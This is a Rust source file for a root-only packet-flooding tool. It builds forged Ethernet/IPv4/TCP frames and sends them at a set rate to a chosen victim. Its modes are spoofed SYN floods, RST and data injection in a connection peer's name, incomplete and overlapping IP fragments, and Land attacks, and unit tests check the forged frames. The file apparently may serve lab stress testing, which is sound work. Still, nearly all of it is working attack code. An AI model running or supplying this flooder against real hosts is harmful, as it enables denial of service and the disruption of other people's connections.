//! A flood of forged packets at a steady rate, frame by frame through a packet socket (which needs
//! root). A host on the network that knows a connection, or only a listener, can send these
//! packets.
//!
//! It ends on SIGTERM, SIGINT or at its time limit, and then prints how many frames it sent, as one
//! line of JSON.
#![forbid(unsafe_code)]

use anyhow::{Context, Result, bail};
use clap::{Parser, ValueEnum};
use nix::errno::Errno;
use nix::sys::signal::{SigSet, Signal};
use nix::sys::signalfd::{SfdFlags, SignalFd};
use nix::sys::socket::{AddressFamily, LinkAddr, MsgFlags, SockFlag, SockType, bind, send, socket};
use std::net::{Ipv4Addr, SocketAddrV4};
use std::os::fd::{AsRawFd, OwnedFd};
use std::time::{Duration, Instant};

/// Sends forged packets until a signal or the time limit ends it.
#[derive(Parser)]
struct Args {
    /// What is sent
    #[arg(value_enum)]
    kind: Kind,
    /// The device that sends it
    device: String,
    /// The Ethernet address of the host under attack
    mac: String,
    /// The connection's end at the host under attack, or a listener there
    victim: SocketAddrV4,
    /// The connection's other end, in whose name it is sent
    peer: SocketAddrV4,
    /// Frames a second
    #[arg(long, default_value_t = 20_000, value_parser = clap::value_parser!(u32).range(1..=10_000_000))]
    rate: u32,
    /// End after so many seconds at the latest
    #[arg(long, default_value_t = 60)]
    limit: u64,
}

#[derive(Clone, Copy, PartialEq, Eq, ValueEnum)]
enum Kind {
    /// SYNs from random addresses (198.18.0.0/15), each from another address and port
    Syn,
    /// RSTs in the peer's name, with any sequence number
    Rst,
    /// Data in the peer's name, with any sequence and acknowledgement numbers
    Ack,
    /// First fragments in the peer's name, of 16 bytes with the ports, whose datagrams are never
    /// completed
    Fragment,
    /// Such fragments in pairs, the second of which overlaps half of the first (RFC 5722)
    Overlap,
    /// SYNs from the victim to itself
    Land,
}

/// The time between two bursts.
const PAUSE: Duration = Duration::from_micros(500);

fn main() -> Result<()> {
    let args = Args::parse();
    let mut ends = SigSet::empty();
    for signal in [Signal::SIGINT, Signal::SIGTERM, Signal::SIGHUP] {
        ends.add(signal);
    }
    ends.thread_block().context("cannot block signals")?;
    let signals = SignalFd::with_flags(&ends, SfdFlags::SFD_NONBLOCK | SfdFlags::SFD_CLOEXEC).context("no signalfd")?;
    nix::sys::prctl::set_timerslack(1).context("cannot set the timer slack")?;
    let (device, mac) = open(&args.device)?;
    let mut forger = Forger { head: head(parse(&args.mac)?, mac), chance: 0x9e37_79b9_7f4a_7c15, number: 0 };
    let begin = Instant::now();
    let (mut sent, mut refused) = (0_u64, 0_u64);
    eprintln!("flooding {} by {}", args.victim, args.device);
    while begin.elapsed() < Duration::from_secs(args.limit) && signals.read_signal()?.is_none() {
        let due = (begin.elapsed().as_secs_f64() * f64::from(args.rate)) as u64;
        while sent + refused < due {
            match send(device.as_raw_fd(), &forger.frame(&args), MsgFlags::empty()) {
                Ok(_) => sent += 1,
                Err(Errno::EAGAIN | Errno::ENOBUFS) => refused += 1,
                Err(error) => return Err(error).with_context(|| format!("cannot send by {}", args.device)),
            }
        }
        std::thread::sleep(PAUSE);
    }
    println!("{{\"sent\":{sent},\"refused\":{refused},\"seconds\":{:.3}}}", begin.elapsed().as_secs_f64());
    Ok(())
}

/// A packet socket on the device, and the device's own Ethernet address.
fn open(device: &str) -> Result<(OwnedFd, [u8; 6])> {
    let mut addresses = nix::ifaddrs::getifaddrs().context("cannot list the devices")?;
    let found = addresses.find_map(|one| one.address?.as_link_addr().copied().filter(|_| one.interface_name == device));
    let Some(address): Option<LinkAddr> = found else { bail!("there is no device {device}") };
    let flags = SockFlag::SOCK_NONBLOCK | SockFlag::SOCK_CLOEXEC;
    // Protocol 0: it only sends and receives nothing.
    let socket = socket(AddressFamily::Packet, SockType::Raw, flags, None)
        .context("cannot open a packet socket, which only root may")?;
    bind(socket.as_raw_fd(), &address).with_context(|| format!("cannot bind to the device {device}"))?;
    Ok((socket, address.addr().context("a device without an Ethernet address")?))
}

fn parse(mac: &str) -> Result<[u8; 6]> {
    let octets: Result<Vec<u8>, _> = mac.split(':').map(|octet| u8::from_str_radix(octet, 16)).collect();
    octets.ok().and_then(|octets| octets.try_into().ok()).with_context(|| format!("{mac} is no Ethernet address"))
}

fn head(to: [u8; 6], from: [u8; 6]) -> [u8; 14] {
    let mut head = [0; 14];
    head[..6].copy_from_slice(&to);
    head[6..12].copy_from_slice(&from);
    head[12] = 8;
    head
}

/// Builds the frames.
struct Forger {
    head: [u8; 14],
    chance: u64,
    number: u32,
}

impl Forger {
    /// Xorshift with a fixed seed, so that every run is the same.
    fn chance(&mut self) -> u32 {
        self.chance ^= self.chance << 13;
        self.chance ^= self.chance >> 7;
        self.chance ^= self.chance << 17;
        (self.chance >> 16) as u32
    }

    fn frame(&mut self, args: &Args) -> Vec<u8> {
        let number = self.number;
        self.number = number.wrapping_add(1);
        let from = match args.kind {
            Kind::Syn => {
                let stranger = u32::from(Ipv4Addr::new(198, 18, 0, 1)) + self.chance() % 0x1_fffe;
                SocketAddrV4::new(stranger.into(), 1024 + (number % 60_000) as u16)
            }
            Kind::Land => args.victim,
            Kind::Rst | Kind::Ack | Kind::Fragment | Kind::Overlap => args.peer,
        };
        let (flags, data): (u8, &[u8]) = match args.kind {
            Kind::Syn | Kind::Land => (0x02, b""),
            Kind::Rst => (0x04, b""),
            Kind::Ack => (0x18, b"forged"),
            Kind::Fragment | Kind::Overlap => (0x10, b""),
        };
        let mut tcp = [from.port().to_be_bytes(), args.victim.port().to_be_bytes()].concat();
        tcp.extend(self.chance().to_be_bytes());
        tcp.extend(if flags & 0x10 == 0 { 0 } else { self.chance() }.to_be_bytes());
        tcp.extend([0x50, flags, 0xff, 0xff, 0, 0, 0, 0]);
        tcp.extend(data);
        let ends = [from.ip().octets(), args.victim.ip().octets()].concat();
        let len = tcp.len() as u16;
        let sum = checksum(&[&ends[..], &[0, 6], &len.to_be_bytes(), &tcp].concat());
        tcp[16..18].copy_from_slice(&sum.to_be_bytes());
        // The datagram's number, and the fragment's offset in units of eight bytes.
        let (datagram, at) = match args.kind {
            Kind::Overlap => (number / 2, number as u8 % 2),
            _ => (number, 0),
        };
        let more = if matches!(args.kind, Kind::Fragment | Kind::Overlap) { 0x20 } else { 0 };
        if more != 0 {
            // A fragment ends at a multiple of eight bytes, unless it is the last.
            tcp.truncate(16);
        }
        let mut ip = vec![0x45, 0];
        ip.extend((20 + tcp.len() as u16).to_be_bytes());
        ip.extend((datagram as u16).to_be_bytes());
        ip.extend([more, at, 64, 6, 0, 0]);
        ip.extend(ends);
        let sum = checksum(&ip);
        ip[10..12].copy_from_slice(&sum.to_be_bytes());
        [&self.head[..], &ip, &tcp].concat()
    }
}

/// RFC 1071.
fn checksum(bytes: &[u8]) -> u16 {
    let word = |pair: &[u8]| u64::from(pair[0]) << 8 | u64::from(pair.get(1).copied().unwrap_or(0));
    let mut sum: u64 = bytes.chunks(2).map(word).sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn told(kind: Kind) -> (Args, Forger) {
        let args = Args {
            kind,
            device: String::new(),
            mac: "02:00:00:00:00:01".into(),
            victim: "10.77.0.2:5201".parse().unwrap(),
            peer: "10.77.0.1:40000".parse().unwrap(),
            rate: 1,
            limit: 1,
        };
        let forger = Forger { head: head(parse(&args.mac).unwrap(), [2; 6]), chance: 1, number: 0 };
        (args, forger)
    }

    #[test]
    fn frames_are_such_as_a_host_takes() {
        for kind in [Kind::Syn, Kind::Rst, Kind::Ack, Kind::Land, Kind::Fragment, Kind::Overlap] {
            let (args, mut forger) = told(kind);
            let frame = forger.frame(&args);
            let (ip, tcp) = frame[14..].split_at(20);
            assert_eq!(usize::from(u16::from_be_bytes([ip[2], ip[3]])), frame.len() - 14);
            assert_eq!(checksum(ip), 0);
            assert_eq!(tcp[2..4], 5201_u16.to_be_bytes());
            if matches!(kind, Kind::Fragment | Kind::Overlap) {
                assert_eq!((tcp.len(), ip[6]), (16, 0x20));
            } else {
                let len = (tcp.len() as u16).to_be_bytes();
                assert_eq!(checksum(&[&ip[12..], &[0, 6], &len, tcp].concat()), 0);
            }
            assert_ne!(forger.frame(&args), frame, "each is another");
        }
    }

    /// The first of each pair has the ports; by them both go to the same lane.
    #[test]
    fn every_second_fragment_lies_over_half_of_the_one_before() {
        let (args, mut forger) = told(Kind::Overlap);
        let frames: Vec<_> = (0..6).map(|_| forger.frame(&args)).collect();
        for pair in frames.chunks(2) {
            let [first, second] = [0, 1].map(|which| &pair[which][14..34]);
            assert_eq!(first[4..6], second[4..6], "one datagram");
            assert_eq!([&first[6..8], &second[6..8]], [[0x20, 0], [0x20, 1]], "more to come, and where it begins");
        }
        assert_ne!(frames[0][18..20], frames[2][18..20], "another datagram");
    }
}
